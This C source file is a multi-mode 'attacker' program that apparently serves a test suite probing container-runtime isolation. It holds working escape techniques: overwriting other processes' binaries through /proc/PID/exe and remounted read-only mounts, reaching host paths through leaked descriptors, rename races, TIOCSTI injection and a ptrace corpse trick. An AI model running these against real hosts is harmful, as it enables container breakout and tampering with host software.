/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile process in a container does:
 *
 *   attacker exe SECONDS             tries to get every program file in sight for writing: straight, through saved
 *                                    O_PATH descriptors, and after clearing their mounts' read-only flag; it overwrites
 *                                    what it gets
 *   attacker fds SECONDS PATH WORD   looks for descriptors, roots and working directories that lead to PATH, of others
 *                                    that have WORD in their command line
 *   attacker swap A B SECONDS        exchanges two names as fast as it can
 *   attacker tiocsti                 pushes a byte into the terminal that is its standard input
 *   attacker trace SECONDS           kills the first process that it sees, and keeps the corpse as its tracer
 *   attacker newns ARGS...           executes ARGS as root of a new user, mount and cgroup namespace
 *
 * "seen N" and "got N" say how much was there to attack and how often it succeeded; "sees" comes with the first.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_SAVED 512

static unsigned long seen, got;
static int saved[MAX_SAVED], n_saved;
static struct stat own;

static double now(void)
{
        struct timespec t;

        clock_gettime(CLOCK_MONOTONIC, &t);
        return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int report(void)
{
        printf("seen %lu\ngot %lu\n", seen, got);
        fflush(stdout);
        return got ? 3 : 0;
}

static void see(void)
{
        if (seen++)
                return;
        puts("sees");
        fflush(stdout);
}

static void overwrite(int fd)
{
        static const char text[] = "owned";

        if (fd < 0)
                return;
        if (pwrite(fd, text, sizeof text, 0) == sizeof text)
                got++;
        close(fd);
}

static void reopen(int fd)
{
        char path[64];

        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        overwrite(open(path, O_WRONLY | O_CLOEXEC));
}

static void unlock_mount(int fd)
{
        struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

        syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
}

static int clone_mount(int fd)
{
        return (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
}

/* With the rights that anybody has in namespaces of his own. */
static void reopen_in_new_namespace(int fd)
{
        pid_t pid = fork();
        int clone, status;

        if (pid == 0) {
                got = 0;
                if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
                        unlock_mount(fd);
                        reopen(fd);
                        clone = clone_mount(fd);
                        if (clone >= 0) {
                                unlock_mount(clone);
                                reopen(clone);
                        }
                }
                _exit(got ? 1 : 0);
        }
        if (pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status))
                got++;
}

static void attack_exe(const char *pid)
{
        char path[300];
        struct stat st;
        int fd;

        snprintf(path, sizeof path, "/proc/%s/exe", pid);
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
                return;
        if (fstat(fd, &st) < 0 || st.st_ino == own.st_ino) {
                close(fd);
                return;
        }
        see();
        overwrite(open(path, O_WRONLY | O_CLOEXEC));
        reopen(fd);
        unlock_mount(fd);
        reopen(fd);
        if (n_saved < MAX_SAVED)
                saved[n_saved++] = fd;
        else
                close(fd);
}

/* Calls f for every process in sight but this one. */
static void each_process(void (*f)(const char *pid))
{
        DIR *dir = opendir("/proc");
        struct dirent *e;

        while (dir && (e = readdir(dir)))
                if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
                        f(e->d_name);
        if (dir)
                closedir(dir);
}

static int exe(double seconds)
{
        double end = now() + seconds;

        if (stat("/proc/self/exe", &own) < 0)
                return 1;
        puts("ready");
        fflush(stdout);
        while (now() < end && access("/stop", F_OK) < 0)
                each_process(attack_exe);
        /* Their processes have ended by now: no ETXTBSY any more. */
        for (int i = 0; i < n_saved; i++) {
                unlock_mount(saved[i]);
                reopen(saved[i]);
                reopen_in_new_namespace(saved[i]);
        }
        return report();
}

static const char *wanted, *word;

static void look(const char *base)
{
        char path[4096];
        size_t len = (size_t)snprintf(path, sizeof path, "%s/", base);

        for (int up = 0; up < 24; up++)
                len += (size_t)snprintf(path + len, sizeof path - len, "../");
        snprintf(path + len, sizeof path - len, "%s", wanted);
        if (access(path, F_OK) == 0) {
                got++;
                printf("reached %s\n", base);
        }
}

static int is_runtime(const char *pid)
{
        char path[300], text[4096] = "";
        ssize_t n;
        int fd;

        snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
        fd = open(path, O_RDONLY);
        n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
        if (fd >= 0)
                close(fd);
        return n > 0 && memmem(text, (size_t)n, word, strlen(word)) != NULL;
}

static void attack_fds(const char *pid)
{
        char path[300], link[PATH_MAX];
        struct dirent *e;
        DIR *dir;

        if (!is_runtime(pid))
                return;
        see();

        snprintf(path, sizeof path, "/proc/%s/root", pid);
        look(path);
        snprintf(path, sizeof path, "/proc/%s/cwd", pid);
        look(path);
        snprintf(path, sizeof path, "/proc/%s/fd", pid);
        dir = opendir(path);
        if (!dir)
                return;
        while ((e = readdir(dir))) {
                snprintf(link, sizeof link, "/proc/%s/fd/%s", pid, e->d_name);
                if (e->d_name[0] == '.')
                        continue;
                look(link);
        }
        closedir(dir);
}

static int fds(double seconds, const char *path, const char *of)
{
        double end = now() + seconds;

        wanted = path + (*path == '/');
        word = of;
        puts("ready");
        fflush(stdout);
        while (now() < end && access("/stop", F_OK) < 0)
                each_process(attack_fds);
        return report();
}

static int swap(const char *a, const char *b, double seconds)
{
        double end = now() + seconds;
        unsigned long n = 0;

        while (now() < end)
                for (int i = 0; i < 1000; i++)
                        n += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
        printf("swapped %lu\n", n);
        return n ? 0 : 1;
}

static int tiocsti(void)
{
        char c = 'x';

        if (ioctl(STDIN_FILENO, TIOCSTI, &c) == 0) {
                puts("injected");
                return 3;
        }
        printf("refused: %s\n", strerrorname_np(errno));
        return 0;
}

static void keep_corpse(const char *pid)
{
        if (got || atoi(pid) == 1 || ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) < 0)
                return;
        got++;
        kill(atoi(pid), SIGKILL);
}

static int trace(double seconds)
{
        double end = now() + seconds;

        puts("ready");
        fflush(stdout);
        while (now() < end && !got)
                each_process(keep_corpse);
        report();
        while (now() < end && access("/stop", F_OK) < 0)
                usleep(10000);
        return 0;
}

static void write_text(const char *path, const char *text)
{
        int fd = open(path, O_WRONLY);

        if (fd < 0 || write(fd, text, strlen(text)) < 0)
                perror(path);
        close(fd);
}

static int newns(char **argv)
{
        char map[32];

        snprintf(map, sizeof map, "0 %d 1", (int)getuid());
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
                perror("unshare");
                return 9;
        }
        write_text("/proc/self/setgroups", "deny");
        write_text("/proc/self/uid_map", map);
        write_text("/proc/self/gid_map", map);
        execv(argv[0], argv);
        perror(argv[0]);
        return 9;
}

int main(int argc, char **argv)
{
        if (argc == 3 && !strcmp(argv[1], "exe"))
                return exe(atof(argv[2]));
        if (argc == 5 && !strcmp(argv[1], "fds"))
                return fds(atof(argv[2]), argv[3], argv[4]);
        if (argc == 5 && !strcmp(argv[1], "swap"))
                return swap(argv[2], argv[3], atof(argv[4]));
        if (argc == 2 && !strcmp(argv[1], "tiocsti"))
                return tiocsti();
        if (argc == 3 && !strcmp(argv[1], "trace"))
                return trace(atof(argv[2]));
        if (argc > 2 && !strcmp(argv[1], "newns"))
                return newns(argv + 2);
        fprintf(stderr, "usage: attacker exe|fds|swap|tiocsti|trace|newns ...\n");
        return 2;
}
